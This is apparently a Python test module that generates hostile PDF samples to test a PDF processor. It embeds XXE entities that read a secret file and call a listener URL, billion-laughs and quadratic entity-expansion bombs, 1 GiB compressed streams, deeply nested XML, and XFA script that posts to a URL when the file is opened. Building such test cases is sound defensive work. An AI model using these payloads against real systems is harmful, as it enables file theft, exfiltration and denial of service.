"""XML inside a PDF: entities that reach for files and the net, or multiply."""

from __future__ import annotations

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.case import TOLD, Bait, case
from tests.hostile.cos import GIGABYTE, altered, appended, packed, stream, zeros

_XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">{}</rdf:RDF></x:xmpmeta>'
_XDP = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">{}</xdp:xdp>'


def _reaching(bait: Bait, body: str) -> bytes:
    """XML with entities for the secret and for the listener."""
    secret, url = bait.secret.as_uri(), bait.url
    return (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "{secret}"><!ENTITY u SYSTEM "{url}xxe">'
        f'<!ENTITY % p SYSTEM "{url}dtd"> %p;]>{body.format("<d>&s;&u;</d>")}'
    ).encode()


def _laughing(body: str) -> bytes:
    """A thousand million laughs."""
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{levels}]>{body.format("<d>&l9;</d>")}'.encode()


def _as_xfa(bait: Bait, data: bytes, filters: str = "null") -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        xml = packed(pdf, data, filters)
        pdf.Root.AcroForm.XFA = Array(["preamble", xml, "datasets", xml, "template", xml])

    return altered(bait.copy(), change)


def _as_xmp(bait: Bait, data: bytes, filters: str = "null") -> bytes:
    """In a revision of its own: qpdf writes metadata unpacked."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Metadata = pdf.pages[0].obj.Metadata = pdf.make_indirect(pikepdf.Stream(pdf, b"<a/>"))

    plain = altered(bait.copy(), change)
    with pikepdf.open(BytesIO(plain)) as pdf:
        number = pdf.Root.Metadata.objgen[0]
    return appended(plain, {number: stream(f"/Type /Metadata /Subtype /XML /Filter {filters}", data)})


@case(TOLD)
def xfa_reaching_out(bait: Bait) -> bytes:
    """XFA with entities from a file and from the net."""
    return _as_xfa(bait, _reaching(bait, _XDP))


@case(TOLD)
def xfa_billion_laughs(bait: Bait) -> bytes:
    """XFA with a thousand million laughs."""
    return _as_xfa(bait, _laughing(_XDP))


@case(TOLD)
def xfa_bomb(bait: Bait) -> bytes:
    """XFA of 1 GiB."""
    return _as_xfa(bait, zeros(GIGABYTE), "/FlateDecode")


@case(TOLD)
def xfa_script(bait: Bait) -> bytes:
    """XFA that submits itself when it is opened."""
    script = f'<script>xfa.host.gotoURL("{bait.url}")</script><submit target="{bait.url}"/>'
    script = f'<event activity="initialize">{script}</event>'
    return _as_xfa(bait, _XDP.format(script).encode())


@case()
def xmp_reaching_out(bait: Bait) -> bytes:
    """XMP with entities from a file and from the net."""
    return _as_xmp(bait, _reaching(bait, _XMP))


@case()
def xmp_billion_laughs(bait: Bait) -> bytes:
    """XMP with a thousand million laughs."""
    return _as_xmp(bait, _laughing(_XMP))


@case()
def xmp_quadratic(bait: Bait) -> bytes:
    """XMP with one entity of 100 kB, used 10,000 times."""
    text = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "a" * 100_000 + '">]>' + _XMP.format("&a;" * 10_000)
    return _as_xmp(bait, zlib.compress(text.encode()), "/FlateDecode")


@case()
def xmp_bomb(bait: Bait) -> bytes:
    """XMP of 1 GiB."""
    return _as_xmp(bait, zeros(GIGABYTE), "/FlateDecode")


@case()
def xmp_deep(bait: Bait) -> bytes:
    """XMP 100,000 elements deep."""
    return _as_xmp(bait, zlib.compress(b"<a>" * 100_000 + b"</a>" * 100_000), "/FlateDecode")


@case()
def rich_value(bait: Bait) -> bytes:
    """Rich text of a field and of an annotation, with entities and laughs."""

    def change(pdf: pikepdf.Pdf) -> None:
        rich = _reaching(bait, '<body xmlns="http://www.w3.org/1999/xhtml">{}</body>').decode()
        laughs = _laughing("<body>{}</body>").decode()
        page = pdf.pages[0].obj
        for each in page.Annots.as_list()[:5]:
            each.RV = rich
        note = Dictionary(Subtype=Name.FreeText, Rect=Array([100, 100, 200, 120]), RC=laughs, DA="/F 9 Tf")
        page.Annots = Array([*page.Annots.as_list(), note])

    return altered(bait.copy(), change)
